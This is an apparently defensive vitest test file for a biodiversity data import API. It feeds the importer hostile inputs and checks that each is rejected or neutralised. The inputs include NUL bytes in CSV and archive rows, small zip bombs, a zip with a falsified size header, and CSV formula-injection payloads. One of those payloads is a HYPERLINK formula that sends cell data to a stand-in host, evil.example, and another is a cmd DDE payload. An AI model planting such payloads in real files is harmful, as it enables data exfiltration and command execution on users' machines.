import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdtempSync } from 'node:fs';
import { randomBytes } from 'node:crypto';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { FastifyInstance } from 'fastify';
import pino from 'pino';
import yazl from 'yazl';
import { parse } from 'csv-parse/sync';
import { sql } from '@biomon/db';
import { startWorker, type RunningWorker } from '@biomon/worker';
import { createTestContext, type TestContext } from './../support/test-db';
import { authAs, buildTestServer } from './../support/http';

// Hostile files through POST /v1/imports and the worker: NUL characters and unpaired surrogates in
// CSV cells, DwC-A rows and Camtrap DP tables reject their row (naming the term in errors.csv) while
// the other rows import; zip bombs and oversized imports fail once with their own code and are not
// retried; errors.csv guards cells against formula injection. Every file is built here, small.

const LIMITS = { maxArchiveEntries: 8, maxArchiveBytes: 4 * 1024 * 1024, maxCompressionRatio: 200, maxRows: 50 };

let t: TestContext;
let app: FastifyInstance;
let worker: RunningWorker;
let surveyor: { authorization: string };

beforeAll(async () => {
  t = await createTestContext({ fileStoreDir: mkdtempSync(path.join(tmpdir(), 'biomon-hostile-files-')), importLimits: LIMITS });
  app = await buildTestServer(t);
  worker = startWorker(t.ctx, pino({ level: 'silent' }), { relayIntervalMs: 50 });
  surveyor = await authAs(t, 'surveyor', { team: 'hostile-files' });
});
afterAll(async () => {
  await worker.stop();
  await app.close();
  await t.close();
});

function multipart(fileName: string, content: Buffer): { payload: Buffer; headers: Record<string, string> } {
  const boundary = `----biomon${randomBytes(8).toString('hex')}`;
  const head = Buffer.from(
    `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: application/octet-stream\r\n\r\n`,
  );
  const tail = Buffer.from(`\r\n--${boundary}--\r\n`);
  return { payload: Buffer.concat([head, content, tail]), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

async function importFile(fileName: string, content: Buffer) {
  const m = multipart(fileName, content);
  const res = await app.inject({ method: 'POST', url: '/v1/imports', headers: { ...surveyor, ...m.headers }, payload: m.payload });
  expect(res.statusCode, res.body).toBe(202);
  const { importId } = res.json() as { importId: string };
  const until = Date.now() + 60_000;
  for (;;) {
    const body = (await app.inject({ method: 'GET', url: `/v1/imports/${importId}`, headers: surveyor })).json();
    if (body.status === 'completed' || body.status === 'failed') return body;
    if (Date.now() > until) throw new Error(`import ${importId} still ${body.status}`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

async function zipOf(files: Record<string, string | Buffer>, compress = true): Promise<Buffer> {
  const zip = new yazl.ZipFile();
  for (const [name, content] of Object.entries(files)) zip.addBuffer(Buffer.isBuffer(content) ? content : Buffer.from(content, 'utf8'), name, { compress });
  zip.end();
  const chunks: Buffer[] = [];
  for await (const c of zip.outputStream) chunks.push(c as Buffer);
  return Buffer.concat(chunks);
}

const errorRows = async (importId: string) => {
  const csv = (await app.inject({ method: 'GET', url: `/v1/imports/${importId}/errors.csv`, headers: surveyor })).body;
  expect(csv.charCodeAt(0)).toBe(0xfeff);
  return parse(csv.slice(1), { relax_column_count: false }) as string[][];
};
const stored = async (importId: string) =>
  (await sql<{ id: string }>`SELECT occurrence_id AS id FROM occurrences WHERE import_id = ${importId} ORDER BY 1`.execute(t.ctx.db)).rows.map((r) => r.id);

/** The bullmq job of an import, once it has settled (the import row is marked before the job ends). */
async function jobOf(importId: string) {
  const q = t.ctx.queues.get('imports')!;
  const until = Date.now() + 15_000;
  for (;;) {
    const jobs = await q.getJobs(['completed', 'failed', 'waiting', 'active', 'delayed', 'prioritized'], 0, -1);
    const mine = jobs.filter((j) => j?.data?.importId === importId);
    expect(mine).toHaveLength(1);
    const state = await mine[0].getState();
    // the job was listed before its state was read: read it again once it has finished, or a
    // job that failed between the two calls shows the attempts of its active state (0)
    if (state === 'completed' || state === 'failed' || Date.now() > until) return { job: (await q.getJob(mine[0].id!)) ?? mine[0], state };
    await new Promise((r) => setTimeout(r, 50));
  }
}

const META = (fields: string[]) => `<?xml version="1.0" encoding="UTF-8"?>
<archive xmlns="http://rs.tdwg.org/dwc/text/">
  <core encoding="UTF-8" fieldsTerminatedBy="\\t" linesTerminatedBy="\\n" fieldsEnclosedBy="" ignoreHeaderLines="1" rowType="http://rs.tdwg.org/dwc/terms/Occurrence">
    <files><location>occurrence.txt</location></files>
    <id index="0"/>
${fields.map((f, i) => `    <field index="${i}" term="http://rs.tdwg.org/dwc/terms/${f}"/>`).join('\n')}
  </core>
</archive>`;
const OCC_FIELDS = ['occurrenceID', 'scientificName', 'eventDate', 'decimalLatitude', 'decimalLongitude', 'occurrenceRemarks'];
const occRow = (id: string, remarks = '') => [id, 'Sus scrofa', '2025-05-01', '43.1', '126.2', remarks].join('\t');

describe('bad characters in files reject their row, naming the term; the other rows import', () => {
  it('CSV (UTF-8): a raw NUL byte in a cell and in an id', async () => {
    const csv = [
      'occurrenceID,scientificName,eventDate,decimalLatitude,decimalLongitude,occurrenceRemarks',
      'hc-1,Sus scrofa,2025-05-01,43.1,126.2,fine',
      'hc-2,Sus scrofa,2025-05-01,43.1,126.2,scat\u0000 at N43',
      'hc-3\u0000x,Sus scrofa,2025-05-01,43.1,126.2,',
      'hc-4,Sus scrofa,2025-05-01,43.1,126.2,also fine',
    ].join('\r\n');
    const r = await importFile('nul.csv', Buffer.from(csv, 'utf8'));
    expect(r.status).toBe('completed');
    expect(r.counts).toMatchObject({ inserted: 2, rejected: 2 });
    expect(await stored(r.importId)).toEqual(['hc-1', 'hc-4']);
    const rows = await errorRows(r.importId);
    expect(rows.slice(1).map((x) => [x[1], x[2], x[3], x[4]])).toEqual([
      ['2', 'hc-2', 'occurrenceRemarks', 'TEXT_INVALID_CHARACTER'],
      ['3', 'hc-3\\u0000x', 'occurrenceID', 'TEXT_INVALID_CHARACTER'],
    ]);
  });

  it('CSV: a NUL in a header names that column in the rows that fill it (an empty cell is not kept)', async () => {
    const csv =
      'occurrenceID,scientificName,eventDate,decimalLatitude,decimalLongitude,habitat\u0000\r\n' +
      'hh-1,Sus scrofa,2025-05-01,43.1,126.2,\r\n' +
      'hh-2,Sus scrofa,2025-05-01,43.1,126.2,forest\r\n';
    const r = await importFile('nul-header.csv', Buffer.from(csv, 'utf8'));
    expect(r.status).toBe('completed');
    expect(r.counts).toMatchObject({ inserted: 1, rejected: 1 });
    expect(await stored(r.importId)).toEqual(['hh-1']);
    const rows = await errorRows(r.importId);
    expect(rows.slice(1).map((x) => `${x[2]}:${x[3]}:${x[4]}`)).toEqual(['hh-2:habitat\\u0000:TEXT_INVALID_CHARACTER']);
  });

  it('DwC-A: a NUL in one row of occurrence.txt', async () => {
    const zip = await zipOf({
      'meta.xml': META(OCC_FIELDS),
      'occurrence.txt': [OCC_FIELDS.join('\t'), occRow('hd-1'), occRow('hd-2', 'N43.1234\u0000E130'), occRow('hd-3')].join('\n') + '\n',
    });
    const r = await importFile('nul-dwca.zip', zip);
    expect(r.status).toBe('completed');
    expect(r.counts).toMatchObject({ inserted: 2, rejected: 1 });
    expect(await stored(r.importId)).toEqual(['hd-1', 'hd-3']);
    expect((await errorRows(r.importId)).slice(1)).toEqual([
      ['occurrence.txt', '2', 'hd-2', 'occurrenceRemarks', 'TEXT_INVALID_CHARACTER', expect.stringMatching(/NUL/)],
    ]);
  });

  it('Camtrap DP: a NUL in a deployment and in an observation comment', async () => {
    const dp = {
      profile: 'https://raw.githubusercontent.com/tdwg/camtrap-dp/1.0.2/camtrap-dp-profile.json',
      resources: ['deployments', 'media', 'observations'].map((n) => ({ name: n, path: `${n}.csv` })),
    };
    const zip = await zipOf({
      'datapackage.json': JSON.stringify(dp),
      'deployments.csv':
        'deploymentID,latitude,longitude,deploymentStart,deploymentEnd,habitat\r\nd1,43.1,128.1,2025-05-01T00:00:00+08:00,2025-05-10T00:00:00+08:00,forest\r\nd2,43.2,128.2,2025-05-01T00:00:00+08:00,2025-05-10T00:00:00+08:00,"bad\u0000habitat"\r\n',
      'media.csv': 'mediaID,deploymentID,timestamp,filePath\r\nm1,d1,2025-05-02T01:00:00+08:00,https://example.org/m1.jpg\r\n',
      'observations.csv':
        'observationID,deploymentID,mediaID,eventID,eventStart,eventEnd,observationLevel,observationType,scientificName,count,observationComments\r\n' +
        'o1,d1,,e1,2025-05-02T01:00:00+08:00,2025-05-02T01:00:10+08:00,event,animal,Sus scrofa,1,\r\n' +
        'o2,d1,,e2,2025-05-03T01:00:00+08:00,2025-05-03T01:00:10+08:00,event,animal,Sus scrofa,2,"trap at N43\u0000"\r\n',
    });
    const r = await importFile('nul-camtrap.zip', zip);
    expect(r.status, JSON.stringify(r.error)).toBe('completed');
    expect(r.counts).toMatchObject({ inserted: 1, rejected: 1, events: { inserted: 1, rejected: 1 } });
    expect(await stored(r.importId)).toEqual(['o1']);
    expect((await errorRows(r.importId)).slice(1).map((x) => [x[0], x[2], x[3], x[4]])).toEqual([
      ['deployments.csv', 'd2', 'habitat', 'TEXT_INVALID_CHARACTER'],
      ['observations.csv', 'o2', 'occurrenceRemarks', 'TEXT_INVALID_CHARACTER'],
    ]);
  });

  it('errors.csv guards cells that would run as a formula, and they round-trip through a CSV reader', async () => {
    const csv =
      'occurrenceID,scientificName,eventDate,decimalLatitude,decimalLongitude\r\n' +
      '"=HYPERLINK(""http://evil.example/?""&A1,""click"")",,2025-05-01,43.1,126.2\r\n' +
      '"+cmd|\' /C calc\'!A0",,2025-05-01,43.1,126.2\r\n' +
      '-2+3,,2025-05-01,43.1,126.2\r\n' +
      '@SUM(1+1),,2025-05-01,43.1,126.2\r\n';
    const r = await importFile('formula.csv', Buffer.from(csv, 'utf8'));
    expect(r.counts).toMatchObject({ inserted: 0, rejected: 4 });
    const rows = await errorRows(r.importId);
    expect(rows.slice(1).map((x) => x[2])).toEqual([`'=HYPERLINK("http://evil.example/?"&A1,"click")`, `'+cmd|' /C calc'!A0`, `'-2+3`, `'@SUM(1+1)`]);
    expect(rows.slice(1).every((x) => x[1].match(/^\d+$/))).toBe(true); // row numbers stay numbers
  });
});

describe('archive and row caps: the import fails once with its code, stores nothing, and is not retried', () => {
  async function expectFailedOnce(r: { importId: string; status: string; error: { code: string; message: string } }, code: string) {
    expect(r.status).toBe('failed');
    expect(r.error.code).toBe(code);
    expect(await stored(r.importId)).toEqual([]);
    const first = await jobOf(r.importId);
    expect(first.state).toBe('failed');
    expect(first.job.attemptsMade).toBe(1);
    expect(first.job.failedReason).toContain(code);
    // bullmq's backoff is 1 s, then 2 s: a retry would have run by now
    await new Promise((res) => setTimeout(res, 3500));
    const later = await jobOf(r.importId);
    expect([later.state, later.job.attemptsMade]).toEqual(['failed', 1]);
    const again = (await app.inject({ method: 'GET', url: `/v1/imports/${r.importId}`, headers: surveyor })).json();
    expect(again).toMatchObject({ status: 'failed', error: { code } });
  }

  it('ARCHIVE_TOO_MANY_ENTRIES: more entries than BIOMON_ARCHIVE_MAX_ENTRIES (8)', async () => {
    const files: Record<string, string> = { 'meta.xml': META(OCC_FIELDS), 'occurrence.txt': `${OCC_FIELDS.join('\t')}\n${occRow('e-1')}\n` };
    for (let i = 0; i < 7; i++) files[`extra/${i}.txt`] = 'x';
    const r = await importFile('many-entries.zip', await zipOf(files));
    await expectFailedOnce(r, 'ARCHIVE_TOO_MANY_ENTRIES');
    expect(r.error.message).toMatch(/9 entries; at most 8/);
  });

  it('ARCHIVE_TOO_LARGE: entries that unpack to more than BIOMON_ARCHIVE_MAX_BYTES (4 MiB)', async () => {
    // incompressible bytes, so the ratio cap does not speak first
    const r = await importFile(
      'too-large.zip',
      await zipOf({
        'meta.xml': META(OCC_FIELDS),
        'occurrence.txt': `${OCC_FIELDS.join('\t')}\n${occRow('l-1')}\n`,
        'media/blob.bin': randomBytes(4 * 1024 * 1024),
      }),
    );
    await expectFailedOnce(r, 'ARCHIVE_TOO_LARGE');
  });

  it('ARCHIVE_COMPRESSION_RATIO: a 3 MiB entry of zeros compressed about 1000:1 (a zip bomb in small)', async () => {
    const r = await importFile(
      'bomb.zip',
      await zipOf({
        'meta.xml': META(OCC_FIELDS),
        'occurrence.txt': Buffer.concat([Buffer.from(`${OCC_FIELDS.join('\t')}\n`), Buffer.alloc(3 * 1024 * 1024)]),
      }),
    );
    await expectFailedOnce(r, 'ARCHIVE_COMPRESSION_RATIO');
    expect(r.error.message).toMatch(/occurrence\.txt is compressed \d+:1/);
  });

  it('IMPORT_TOO_MANY_ROWS: 51 rows past BIOMON_IMPORT_MAX_ROWS (50), in a CSV and in a DwC-A', async () => {
    const rows = Array.from({ length: 51 }, (_, i) => occRow(`r-${i}`));
    const csv = await importFile('rows.csv', Buffer.from([OCC_FIELDS.join(','), ...rows.map((x) => x.replace(/\t/g, ','))].join('\n'), 'utf8'));
    await expectFailedOnce(csv, 'IMPORT_TOO_MANY_ROWS');
    const dwca = await importFile(
      'rows.zip',
      await zipOf({ 'meta.xml': META(OCC_FIELDS), 'occurrence.txt': [OCC_FIELDS.join('\t'), ...rows].join('\n') + '\n' }),
    );
    expect(dwca.error.code).toBe('IMPORT_TOO_MANY_ROWS');
    expect(await stored(dwca.importId)).toEqual([]);
  }, 30_000);

  it('ZIP_INVALID: an entry that inflates to more than its central directory declares', async () => {
    const zip = await zipOf({ 'meta.xml': META(OCC_FIELDS), 'occurrence.txt': [OCC_FIELDS.join('\t'), occRow('z-1'), occRow('z-2')].join('\n') + '\n' });
    // central directory header of occurrence.txt: signature PK\1\2, uncompressed size at offset 24
    const name = Buffer.from('occurrence.txt');
    let at = -1;
    for (let i = zip.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02])); i >= 0; i = zip.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]), i + 4)) {
      if (zip.subarray(i + 46, i + 46 + name.length).equals(name)) at = i;
    }
    expect(at).toBeGreaterThan(0);
    zip.writeUInt32LE(zip.readUInt32LE(at + 24) - 20, at + 24);
    const r = await importFile('lying.zip', zip);
    await expectFailedOnce(r, 'ZIP_INVALID');
  });
});
